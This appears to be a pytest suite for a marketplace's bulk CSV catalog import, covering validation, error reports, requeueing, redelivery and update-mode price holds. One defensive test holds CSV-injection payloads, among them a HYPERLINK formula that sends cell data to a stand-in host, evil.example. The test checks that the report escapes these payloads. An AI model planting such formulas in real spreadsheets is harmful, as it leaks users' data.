"""Bulk catalog import, the domain (marketplace.imports): a CSV row against the product schema and
categories, the header and encoding checks, and the import itself against the local stack's moto
(table, bucket from template.yaml; a private queue per test for the re-queued rest): counts, the
error report, chunked re-queueing, and redelivery creating no duplicate."""

from __future__ import annotations

import copy
import csv
import io
import json
import uuid
from typing import Any

import pytest

from marketplace import imports, products, schemas
from marketplace.imports import CatalogError, Columns, Imports, ImportStore, decoded_lines, read_rows
from marketplace.principal import Principal
from marketplace.products import Products
from marketplace.repository import Table
from marketplace.suppliers import Suppliers
from tests.conftest import wait_until

HEADER = ["sku", "title", "category", "price", "currency", "quantity", "images", "attributes.brand",
          "attributes.model", "attributes.isbn"]  # fmt: skip
COLUMNS = Columns(tuple(HEADER))


def row(**over: str) -> list[str]:
    values = {"sku": "SKU-1", "title": "Noise-cancelling headphones", "category": "electronics",
              "price": "199.99", "currency": "EUR", "quantity": "5",
              "images": "https://img.example/a.jpg|https://img.example/b.jpg",
              "attributes.brand": "Acme", "attributes.model": "NC-1", "attributes.isbn": "", **over}  # fmt: skip
    return [values[h] for h in HEADER]


def fields(errors: list[Any]) -> list[tuple[str, str]]:
    return [(e.field, e.reason) for e in errors]


# ------------------------------------------------------------------------------------------- rows
def test_a_valid_row_becomes_the_body_the_products_api_accepts():
    body, errors = imports.row_to_listing(COLUMNS, row())
    assert errors == []
    assert body == {
        "sku": "SKU-1", "title": "Noise-cancelling headphones", "category": "electronics",
        "price": {"amount": 199.99, "currency": "EUR"}, "quantity": 5,
        "images": ["https://img.example/a.jpg", "https://img.example/b.jpg"],
        "attributes": {"brand": "Acme", "model": "NC-1"},
    }  # fmt: skip
    schemas.validate("product", body)  # the API's own check passes too


def test_unicode_text_is_valid_but_a_unicode_sku_is_not():
    body, errors = imports.row_to_listing(COLUMNS, row(title="Kopfhörer «Ruhe» 静か ✓"))
    assert errors == [] and body["title"] == "Kopfhörer «Ruhe» 静か ✓"
    _, errors = imports.row_to_listing(COLUMNS, row(sku="KÖPF-1"))
    assert [f for f, _ in fields(errors)] == ["sku"] and "does not match" in errors[0].reason


@pytest.mark.parametrize(
    ("over", "field", "reason_part"),
    [
        ({"title": ""}, "title", "is required"),
        ({"sku": ""}, "sku", "is required"),
        ({"price": "abc"}, "price.amount", "must be a number, not 'abc'"),
        ({"price": "NaN"}, "price.amount", "must be a number"),
        ({"price": "-3"}, "price.amount", "less than or equal to the minimum of 0"),
        ({"price": "1.999"}, "price.amount", "has more than 2 decimals"),
        ({"price": ""}, "price.amount", "is required"),
        ({"currency": "euro"}, "price.currency", "does not match"),
        ({"quantity": "1.5"}, "quantity", "must be a whole number"),
        ({"quantity": "\u00b2"}, "quantity", "must be a whole number"),  # a Unicode digit int() refuses
        ({"quantity": "+-5"}, "quantity", "must be a whole number"),
        ({"quantity": "9" * 5000}, "quantity", "must be a whole number"),  # more digits than int() reads
        ({"category": "spaceships"}, "category", "unknown category 'spaceships'"),
        ({"title": "x" * 201}, "title", "is 201 characters long; at most 200 are allowed"),
        ({"sku": "S" * 65}, "sku", "does not match"),
    ],
)
def test_each_bad_field_is_named_with_its_reason(over, field, reason_part):
    _, errors = imports.row_to_listing(COLUMNS, row(**over))
    assert [e.field for e in errors] == [field], fields(errors)
    assert reason_part in errors[0].reason


def test_a_row_with_more_cells_than_the_header_is_an_error():
    _, errors = imports.row_to_listing(COLUMNS, [*row(), "extra"])
    assert ("(row)", f"has {len(HEADER) + 1} cells, the header has {len(HEADER)}") in fields(errors)


def test_the_header_must_name_the_required_columns_and_only_known_ones():
    with pytest.raises(CatalogError, match="missing column"):
        Columns.from_header(["sku", "title"])
    with pytest.raises(CatalogError, match=r"unknown column.*'colour'"):
        Columns.from_header([*HEADER, "colour"])
    assert Columns.from_header([" sku ", *HEADER[1:]]).names[0] == "sku"


def test_lines_are_utf8_without_bom_and_rows_keep_spreadsheet_numbers():
    data = '\ufeffsku,title\n\nA,"two\nlines"\nB,b\n'.encode()
    lines = list(decoded_lines(iter(io.BytesIO(data).readlines())))
    assert lines[0] == "sku,title\n"
    reader = csv.reader(lines)
    assert next(reader) == ["sku", "title"]
    with pytest.raises(CatalogError, match="line 2 is not UTF-8"):
        list(decoded_lines(iter([b"sku\n", b"\xff\xfe\n"])))
    with pytest.raises(CatalogError, match="missing column"):
        read_rows(iter(lines))
    _, rows = read_rows(iter(["sku,title,category,price,currency,quantity\n", "\n", "A,b,c,1,EUR,1\n"]))
    assert list(rows) == [(3, ["A", "b", "c", "1", "EUR", "1"])]


# ------------------------------------------------------------------------------------------- import
class Harness:
    def __init__(self, stack: Any, tenant: str) -> None:
        self.stack = stack
        self.tenant = tenant
        self.table = Table(stack.physical_id("MarketplaceTable"), stack.client("dynamodb"))
        self.bucket = stack.physical_id("ImportBucket")
        sqs = stack.client("sqs")
        # A private queue: the stack's own ImportQueue is consumed by ImportFunction.
        self.queue_url = sqs.create_queue(QueueName=f"test-imports-{uuid.uuid4().hex[:8]}")["QueueUrl"]
        self.retailer = Principal(subject="r", tenant_id=tenant, roles=frozenset({"retailer"}))
        self.supplier_id = Suppliers(self.table).register(
            self.retailer,
            {"legalName": "Acme Ltd", "taxId": f"{uuid.uuid4().int % 10**9:09d}"[:2] + "-"
             + f"{uuid.uuid4().int % 10**7:07d}", "country": "US", "contactEmail": "ops@acme.com",
             "website": "https://www.acme.com", "phone": "+1 5551234567",
             "address": {"line1": "1 Main St", "city": "Springfield", "postalCode": "12345", "country": "US"}},
        )["supplierId"]  # fmt: skip

    def imports(self) -> Imports:
        return Imports(self.table, ImportStore(self.bucket), queue_url=self.queue_url)

    def upload(self, rows: list[list[str]], mode: str = "create") -> dict[str, Any]:
        service = self.imports()
        created = service.create(self.retailer, self.supplier_id, {"fileName": "catalog.csv", "mode": mode})
        buffer = io.StringIO()
        csv.writer(buffer).writerows([HEADER, *rows])
        record = service.get(self.tenant, self.supplier_id, created["importId"])
        self.stack.client("s3").put_object(
            Bucket=self.bucket, Key=record["uploadKey"], Body=buffer.getvalue().encode()
        )
        return created

    def message(self, import_id: str, offset: int = 1) -> dict[str, Any]:
        record = self.imports().get(self.tenant, self.supplier_id, import_id)
        return {"tenantId": self.tenant, "supplierId": self.supplier_id, "importId": import_id,
                "key": record["uploadKey"], "offset": offset}  # fmt: skip

    def record(self, import_id: str) -> dict[str, Any]:
        return self.imports().get(self.tenant, self.supplier_id, import_id)

    def report(self, import_id: str) -> list[list[str]]:
        return self.imports().store.read_csv(self.record(import_id)["reportKey"])

    def listings(self) -> list[dict[str, Any]]:
        return self.table.query(
            f"TENANT#{self.tenant}#SUPPLIER#{self.supplier_id}", sk_prefix="PRODUCT#", limit=1000
        ).items

    def queued(self) -> list[dict[str, Any]]:
        messages = self.stack.client("sqs").receive_message(QueueUrl=self.queue_url, MaxNumberOfMessages=10)
        return [json.loads(m["Body"]) for m in messages.get("Messages", [])]


@pytest.fixture
def harness(stack, tenant) -> Harness:
    return Harness(stack, tenant)


def _mixed_rows() -> list[list[str]]:
    return [
        row(sku="OK-1"),
        row(sku="OK-2", title="Écouteurs sans fil ✓"),
        row(sku="BAD-PRICE", price="abc"),
        row(sku="OK-1"),  # repeats row 2
        row(sku="TAKEN"),  # listed before the import
        row(sku="BAD-CAT", category="spaceships"),
        row(sku="OK-3"),
    ]


def test_an_import_writes_the_valid_rows_and_reports_exactly_the_bad_ones(harness, monkeypatch):
    Products(harness.table).register(
        harness.retailer, harness.supplier_id, imports.row_to_listing(COLUMNS, row(sku="TAKEN"))[0]
    )
    created = harness.upload(_mixed_rows())
    assert created["status"] == "AWAITING_UPLOAD" and created["uploadUrl"].startswith("http")
    outcome = harness.imports().process(harness.message(created["importId"]), lambda: 300.0)
    assert outcome.status == "COMPLETED"
    record = harness.record(created["importId"])
    assert (record["status"], record["rowsProcessed"], record["imported"], record["failed"]) == (
        "COMPLETED",
        7,
        3,
        4,
    )
    assert harness.report(created["importId"]) == [
        ["row", "sku", "field", "reason"],
        ["4", "BAD-PRICE", "price.amount", "must be a number, not 'abc'"],
        ["5", "OK-1", "sku", "repeats the SKU of row 2 in this file"],
        ["6", "TAKEN", "sku", "is already listed for this supplier"],
        [
            "7",
            "BAD-CAT",
            "category",
            imports.row_to_listing(COLUMNS, row(category="spaceships"))[1][0].reason,
        ],
    ]
    mine = {i["sku"]: i for i in harness.listings() if i.get("importId") == created["importId"]}
    assert sorted(mine) == ["OK-1", "OK-2", "OK-3"]
    assert mine["OK-2"]["title"] == "Écouteurs sans fil ✓" and mine["OK-1"]["version"] == 1

    # Counts per workflow status, one page of the supplier's listings at a time.
    monkeypatch.setattr(imports, "STATUS_PAGE", 2)
    total, token, pages = 0, None, 0
    while True:
        counts, token = harness.imports().listing_statuses(
            harness.tenant, harness.supplier_id, created["importId"], token
        )
        total, pages = total + sum(counts.values()), pages + 1
        if token is None:
            break
    # 4 listings (TAKEN is not this import's), 2 per page; a full last page is followed by an empty
    # one, as DynamoDB answers a LastEvaluatedKey whenever the Limit was reached.
    assert (total, pages) == (3, 3)


def test_a_formula_in_a_bad_row_is_written_to_the_report_as_text(harness):
    """CSV injection (OWASP): the report echoes the supplier's cells, and a spreadsheet runs a cell
    that starts with = + - @, tab or carriage return. Each such cell gets a single quote before it
    and every cell is quoted, so the spreadsheet shows text."""
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
    created = harness.upload([row(sku=f) for f in formulas])
    harness.imports().process(harness.message(created["importId"]), lambda: 300.0)
    key = harness.record(created["importId"])["reportKey"]
    raw = harness.stack.client("s3").get_object(Bucket=harness.bucket, Key=key)["Body"].read().decode()

    rows = list(csv.reader(io.StringIO(raw)))
    assert [r[1] for r in rows[1:]] == ["'" + f for f in formulas]  # each shown as the text it is
    assert raw.splitlines()[0] == '"row","sku","field","reason"'
    assert all(line.startswith('"') for line in raw.splitlines())  # every cell quoted
    # Cells the import strips (a SKU) never start with tab or CR, but a report cell might.
    assert [imports.spreadsheet_safe(c) for c in ("\t=1", "\r=1", "SKU-1", "'=1")] == [
        "'\t=1",
        "'\r=1",
        "SKU-1",
        "'=1",
    ]
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw


def test_a_redelivered_message_creates_no_duplicate_and_counts_stay_right(harness, monkeypatch):
    monkeypatch.setattr(imports, "CHUNK_ROWS", 3)
    created = harness.upload(_mixed_rows())
    import_id = created["importId"]
    service = harness.imports()
    # First delivery: the first chunk's listings are written, then the commit is lost (a crash).
    real_update = service.table.update
    calls = {"n": 0}

    def crash_on_first_commit(pk, sk, version, changes, remove=()):
        if "nextRow" in changes:
            calls["n"] += 1
            if calls["n"] == 1:
                raise RuntimeError("the function died before committing its chunk")
        return real_update(pk, sk, version, changes, remove)

    monkeypatch.setattr(service.table, "update", crash_on_first_commit)
    with pytest.raises(RuntimeError):
        service.process(harness.message(import_id), lambda: 300.0)
    assert len([i for i in harness.listings() if i.get("importId") == import_id]) == 2  # OK-1, OK-2 written
    # SQS redelivers: the same listings are found (this import's own), counted once, nothing doubles.
    assert harness.imports().process(harness.message(import_id), lambda: 300.0).status == "COMPLETED"
    # And a late duplicate of the message finds the import finished.
    assert harness.imports().process(harness.message(import_id), lambda: 300.0).skipped == "already finished"
    record = harness.record(import_id)
    assert (record["rowsProcessed"], record["imported"], record["failed"]) == (7, 4, 3)  # TAKEN is new here
    assert sorted(i["sku"] for i in harness.listings()) == ["OK-1", "OK-2", "OK-3", "TAKEN"]
    assert [r[0] for r in harness.report(import_id)[1:]] == ["4", "5", "7"]


def test_when_time_runs_short_the_rest_is_requeued_with_its_offset(harness, monkeypatch):
    monkeypatch.setattr(imports, "CHUNK_ROWS", 3)
    created = harness.upload(_mixed_rows())
    import_id = created["importId"]
    budget = iter([300.0, 1.0])  # time for one chunk, then not enough for the next
    outcome = harness.imports().process(harness.message(import_id), lambda: next(budget))
    assert (outcome.status, outcome.chunks, outcome.requeued_at) == ("RUNNING", 1, 5)
    assert harness.record(import_id)["rowsProcessed"] == 3
    (rest,) = harness.queued()
    assert rest["offset"] == 5 and rest["importId"] == import_id and "key" in rest
    # The original message delivered again meanwhile skips the committed chunk, as does the rest.
    assert harness.imports().process(harness.message(import_id), lambda: 300.0).status == "COMPLETED"
    assert harness.imports().process(rest, lambda: 300.0).skipped == "already finished"
    record = harness.record(import_id)
    assert (record["rowsProcessed"], record["imported"], record["failed"]) == (7, 4, 3)
    assert len(harness.report(import_id)) == 1 + 3


def test_a_file_that_is_not_a_catalog_fails_the_import_with_the_reason(harness):
    service = harness.imports()
    created = service.create(harness.retailer, harness.supplier_id, {})
    key = service.get(harness.tenant, harness.supplier_id, created["importId"])["uploadKey"]
    harness.stack.client("s3").put_object(Bucket=harness.bucket, Key=key, Body=b"name,price\nA,1\n")
    assert service.process(harness.message(created["importId"]), lambda: 300.0).status == "FAILED"
    record = harness.record(created["importId"])
    assert record["status"] == "FAILED" and "missing column(s) sku, title" in record["failureReason"]


# ------------------------------------------------------------------ the local stack's transactions
def test_a_cancelled_transaction_restores_what_it_changed_without_copying_the_whole_table(stack):
    """marketplace_local.moto_patches.dynamodb_fixes snapshots only what a transaction can change in place (the
    import's TransactWriteItems stalled the stack when moto deep-copied the table for each)."""
    ddb, table = stack.client("dynamodb"), stack.physical_id("MarketplaceTable")
    pk = f"TEST#{uuid.uuid4().hex}"
    ddb.put_item(TableName=table, Item={"PK": {"S": pk}, "SK": {"S": "A"}, "n": {"N": "1"}})
    ddb.put_item(TableName=table, Item={"PK": {"S": pk}, "SK": {"S": "TAKEN"}})
    ddb.put_item(TableName=table, Item={"PK": {"S": pk}, "SK": {"S": "GONE"}})
    with pytest.raises(ddb.exceptions.TransactionCanceledException):
        ddb.transact_write_items(TransactItems=[
            {"Update": {"TableName": table, "Key": {"PK": {"S": pk}, "SK": {"S": "A"}},
                        "UpdateExpression": "SET n = :two", "ExpressionAttributeValues": {":two": {"N": "2"}}}},
            {"Put": {"TableName": table, "Item": {"PK": {"S": pk}, "SK": {"S": "NEW"}}}},
            {"Put": {"TableName": table, "Item": {"PK": {"S": f"{pk}#fresh"}, "SK": {"S": "X"}}}},
            {"Delete": {"TableName": table, "Key": {"PK": {"S": pk}, "SK": {"S": "GONE"}}}},
            {"Put": {"TableName": table, "Item": {"PK": {"S": pk}, "SK": {"S": "TAKEN"}},
                     "ConditionExpression": "attribute_not_exists(PK)"}},
        ])  # fmt: skip
    items = ddb.query(TableName=table, KeyConditionExpression="PK = :pk",
                      ExpressionAttributeValues={":pk": {"S": pk}})["Items"]  # fmt: skip
    assert sorted((i["SK"]["S"], i.get("n", {}).get("N")) for i in items) == [
        ("A", "1"),
        ("GONE", None),
        ("TAKEN", None),
    ]
    assert "Item" not in ddb.get_item(TableName=table, Key={"PK": {"S": f"{pk}#fresh"}, "SK": {"S": "X"}})
    ddb.transact_write_items(TransactItems=[
        {"Update": {"TableName": table, "Key": {"PK": {"S": pk}, "SK": {"S": "A"}},
                    "UpdateExpression": "SET n = :two", "ExpressionAttributeValues": {":two": {"N": "2"}}}},
    ])  # fmt: skip
    got = ddb.get_item(TableName=table, Key={"PK": {"S": pk}, "SK": {"S": "A"}})["Item"]
    assert got["n"] == {"N": "2"}


def test_a_listing_image_url_urllib_cannot_read_is_flagged_not_a_crash():
    """A schema-valid image URL that urlsplit refuses ("Invalid IPv6 URL") is a flag on that image."""
    listing = imports.row_to_listing(COLUMNS, row(images="https://bracket]shop.de/a.jpg"))[0]
    status, flags = products.evaluate(listing, "APPROVED")
    assert status == "FLAGGED"
    assert ("images.0", "must be an https URL") in fields(flags)


# ------------------------------------------------------------------------------------------- update mode
def _listed(harness: Harness, sku: str, **over: str) -> dict[str, Any]:
    """A listing registered in the shared stack, once its workflow has written its verdict (a write
    that would otherwise move the version under the test's feet)."""
    body = imports.row_to_listing(COLUMNS, row(sku=sku, **over))[0]
    Products(harness.table).register(harness.retailer, harness.supplier_id, body)

    def decided() -> dict[str, Any] | None:
        record = harness.table.get(
            f"TENANT#{harness.tenant}#SUPPLIER#{harness.supplier_id}", f"PRODUCT#{sku}"
        )
        return record if record and record["status"] != "PENDING" else None

    return wait_until(decided, timeout=60, what=f"the listing {sku}'s verdict")


def test_an_update_import_sets_stock_and_price_of_listed_skus_and_creates_new_ones(harness):
    listed = _listed(harness, "LISTED", quantity="5", price="199.99")
    gone = _listed(harness, "GONE")
    harness.table.update(gone["PK"], gone["SK"], gone["version"], {"status": "REJECTED"})
    held = _listed(harness, "HELD", quantity="5", price="199.99")
    created = harness.upload([
        row(sku="LISTED", quantity="9", price="169.50", title="Another title"),
        row(sku="NEW-1"),
        row(sku="BAD-PRICE", price="abc"),
        row(sku="GONE", quantity="3"),
        row(sku="HELD", quantity="9", price="1999.90"),
    ], mode="update")  # fmt: skip
    assert created["mode"] == "update"
    assert (
        harness.imports().process(harness.message(created["importId"]), lambda: 300.0).status == "COMPLETED"
    )
    record = harness.record(created["importId"])
    assert (record["rowsProcessed"], record["imported"], record["updated"], record["failed"]) == (5, 1, 1, 3)
    assert imports.view(record)["updated"] == 1
    # A price move beyond the change gate's threshold on an ACTIVE listing waits for review (D41):
    # not in a feed, which sets what applies at once.
    assert held["status"] == "ACTIVE"
    assert harness.report(created["importId"]) == [
        ["row", "sku", "field", "reason"],
        ["4", "BAD-PRICE", "price.amount", "must be a number, not 'abc'"],
        ["5", "GONE", "sku", "is a REJECTED listing: it cannot be changed"],
        [
            "6",
            "HELD",
            "price",
            "the price moves 900.0%, beyond 20%: PATCH the listing, where the change waits for review",
        ],
    ]
    assert harness.table.get(held["PK"], held["SK"])["price"] == {"amount": 199.99, "currency": "EUR"}
    after = harness.table.get(listed["PK"], listed["SK"])
    # The stock and the price change, nothing else; the version moves; the trail says why.
    assert (after["quantity"], after["price"], after["title"]) == (
        9,
        {"amount": 169.5, "currency": "EUR"},
        listed["title"],
    )
    assert after["version"] == listed["version"] + 1
    assert after["stockChange"] == {"delta": 4, "reason": f"import {created['importId']}"}
    assert after["updatedBy"] == harness.retailer.actor
    assert sorted(i["sku"] for i in harness.listings()) == ["GONE", "HELD", "LISTED", "NEW-1"]

    # The same file in create mode refuses the listed SKUs, as before.
    again = harness.upload([row(sku="LISTED", quantity="1")])
    harness.imports().process(harness.message(again["importId"]), lambda: 300.0)
    assert harness.report(again["importId"])[1][1:] == [
        "LISTED",
        "sku",
        "is already listed for this supplier",
    ]
    assert harness.table.get(listed["PK"], listed["SK"])["quantity"] == 9


def test_an_update_import_holds_a_price_move_by_the_threshold_of_the_tenant_s_rule_pack(harness):
    """The feed's price hold scores with the pack in force (its ``changes``, D51): 5 % there, so a
    10 % move is held that the file's 20 % would let through."""
    from marketplace import rule_packs

    document = copy.deepcopy(rule_packs.default_document())
    document["changes"] = {"listing": {"price": {"percent": 5}}}
    admin = Principal("ada", harness.tenant, frozenset({"admin"}))
    rule_packs.put_draft(harness.table, admin, document, None)
    rule_packs.activate(harness.table, admin, None)
    supplier = Suppliers(harness.table)
    wait_until(lambda: supplier.get(harness.tenant, harness.supplier_id)["status"] == "APPROVED", timeout=60,
               what="the supplier's approval")  # fmt: skip
    listed = _listed(harness, "LISTED", quantity="5", price="100.00")
    assert listed["status"] == "ACTIVE"
    created = harness.upload([row(sku="LISTED", quantity="9", price="110.00")], mode="update")
    harness.imports().process(harness.message(created["importId"]), lambda: 300.0)
    assert harness.report(created["importId"])[1:] == [
        [
            "2",
            "LISTED",
            "price",
            "the price moves 10.0%, beyond 5%: PATCH the listing, where the change waits for review",
        ]
    ]
    assert harness.table.get(listed["PK"], listed["SK"])["price"] == {"amount": 100, "currency": "EUR"}


def test_a_redelivered_update_chunk_does_not_put_back_units_reserved_since(harness, monkeypatch):
    """The chunk's update is written, the commit is lost, an order reserves 2 units, SQS delivers the
    message again: the listing already carries this import, so its quantity is not set back to the
    file's (which would put the 2 reserved units on sale again)."""
    listed = _listed(harness, "LISTED", quantity="5")
    created = harness.upload([row(sku="LISTED", quantity="10")], mode="update")
    service = harness.imports()
    real_update = service.table.update

    def crash_on_commit(pk, sk, version, changes, remove=()):
        if "nextRow" in changes:
            raise RuntimeError("the function died before committing its chunk")
        return real_update(pk, sk, version, changes, remove)

    with monkeypatch.context() as patched:
        patched.setattr(service.table, "update", crash_on_commit)
        with pytest.raises(RuntimeError):
            service.process(harness.message(created["importId"]), lambda: 300.0)
    assert harness.table.get(listed["PK"], listed["SK"])["quantity"] == 10
    harness.table.add(
        listed["PK"], listed["SK"], "quantity", -2, {"updatedBy": "order:o-1"}, floor=0, ceiling=10**6
    )
    assert (
        harness.imports().process(harness.message(created["importId"]), lambda: 300.0).status == "COMPLETED"
    )
    assert harness.table.get(listed["PK"], listed["SK"])["quantity"] == 8
    assert harness.record(created["importId"])["updated"] == 1
